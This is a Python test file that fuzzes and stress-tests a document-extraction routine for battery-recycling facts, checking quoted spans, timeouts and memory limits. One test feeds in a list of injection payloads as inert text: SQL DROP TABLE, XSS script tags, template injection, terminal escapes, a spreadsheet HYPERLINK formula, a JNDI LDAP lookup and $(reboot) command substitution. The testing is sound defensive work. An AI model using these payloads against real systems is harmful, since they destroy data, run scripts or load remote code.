"""Whatever a document says, extraction gives statements that quote it, and never raises."""

from __future__ import annotations

import datetime as dt

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dagster_project.extraction import batches
from dagster_project.extraction.batches import DOCUMENT_INPUT, Extracted, extract_batch

# Words the rules act on, in the languages they read, and marks that other programs act on.
PIECES = st.sampled_from(
    ["battery recycling plant", "black mass", " Northfield Materials Inc. ", "the company ", "we ",
     "$", "€", " million", " billion", "5,000", "1.5万亿", "３００", "-", "–", " tonnes ",
     " GWh", " in Dayton, Ohio", " in 2027", "March 2025", "3月", "2025年", "二〇二五年", " grant ",
     "cancelled", "signed an agreement with", " and ", ", ", ". ", "; ", "\n", "\n\n", " | ",
     "| a | b |\n", "up 4.6% MoM and 51.4% YoY, respectively", "Werk für Batterierecycling",
     "usine de recyclage", "planta de reciclaje", "电池回收工厂", "電池リサイクル工場",
     "배터리 재활용 공장", "said CEO Ann Smith", "\u0130", "ﬃ", "\u0000", "\u200b",
     "\U0001f50b", "((", "[[", "**", "# ", "- "]
)  # fmt: skip
PAYLOADS = (
    "'; DROP TABLE raw.documents; --",
    '<img src=x onerror="alert(1)"><script>alert(1)</script>',
    "[x](javascript:alert(1)) ![y](http://x.invalid/y.png)",
    "{{ 7 * 7 }} {% for x in range(10) %} {# comment",
    "\x1b]0;title\x07\x1b[2J\x9b31m",
    '=HYPERLINK("http://x.invalid","here") +1 @SUM(A1) \t=1',
    "${jndi:ldap://x.invalid/a} %s %n {0.__class__} $(reboot) `reboot`",
)
FACT = " plans a $90 million battery recycling plant in Dayton, Ohio, for 5,000 tonnes a year."


def extract(text: str, language: str = "en", seconds: float = 2.0) -> Extracted:
    row = {
        "document_id": "d",
        "text": text,
        "language": language,
        "title": text[:30],
        "published_on": dt.date(2025, 3, 4),
        "published_precision": "day",
        "recorded_at": dt.datetime(2025, 3, 5, tzinfo=dt.UTC),
    }
    return extract_batch(pa.RecordBatch.from_pylist([row], schema=DOCUMENT_INPUT), seconds)


def assert_quotes(found: Extracted, text: str) -> None:
    assert found.failures == []
    for row in found.statements.to_pylist():
        assert text[row["span_start"] : row["span_end"]] == row["quote"]
        if row["value_start"] is not None:
            assert row["span_start"] <= row["value_start"] <= row["value_end"] <= row["span_end"]


@settings(max_examples=150)
@given(
    st.lists(PIECES | st.text(max_size=8), max_size=40).map("".join),
    st.sampled_from(("en", "de", "fr", "es", "zh", "ja", "ko", "xx")),
)
def test_any_text_is_read_and_every_statement_quotes_it(text: str, language: str) -> None:
    assert_quotes(extract(text, language), text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_other_programs_would_obey_is_text(payload: str) -> None:
    text = f"# {payload}\n\nNorthfield {payload} Inc.{FACT}\n\n| {payload} | 5,000 t |\n"
    assert_quotes(extract(text), text)


@pytest.mark.parametrize(
    "text",
    ["Northfield Inc." + FACT * 4_000, "battery recycling " + "9" * 200_000, "plant, " * 100_000,
     "battery " + "(" * 100_000, "black mass " + "A. " * 60_000, "$5 million and " * 40_000,
     "battery " + "March " * 80_000, "battery | " * 60_000],
    ids=lambda text: text[:20],
)  # fmt: skip
def test_no_text_holds_extraction_longer_than_it_may(text: str) -> None:
    found = extract(text, seconds=0.5)
    assert [failure.detail[:5] for failure in found.failures] in ([], ["Slow:"])


def test_a_document_that_takes_too_long_or_all_memory_is_said_to(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    extract("load what is loaded once")

    def endless(_page: object) -> None:
        while True:
            pass

    def hungry(_page: object) -> bytearray:
        return bytearray(1 << 32)

    for reader, words in ((endless, "Slow: it took more than 0.1 seconds"), (hungry, "GiB")):
        monkeypatch.setattr(batches, "read_frames", reader)
        [failure] = extract("A plant.", seconds=0.1).failures
        assert words in failure.detail
